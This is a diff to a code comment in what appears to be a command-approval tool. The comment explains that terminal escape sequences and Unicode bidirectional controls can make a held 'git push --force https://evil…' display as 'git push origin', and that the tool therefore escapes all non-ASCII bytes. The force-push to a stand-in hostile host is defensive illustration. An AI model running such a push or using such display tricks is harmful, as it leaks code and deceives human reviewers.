@@ -4,8 +4,7 @@
  * argv element, a program name, a unix path. A terminal acts on escape
  * sequences (erase the line, move the cursor, retitle the window), and
  * Unicode bidirectional controls reorder what is displayed: a held
- * `git push --force https://evil…` was shown as `git push origin` that way
- * (red-team finding). So only printable ASCII is shown as itself; every
+ * `git push --force https://evil…` can be shown as `git push origin` that way. So only printable ASCII is shown as itself; every
  * other byte, UTF-8 included, is written \xNN. argv elements that a shell
  * would split or expand are quoted, so that word boundaries are visible,
  * and a summary cut short says how much is missing.
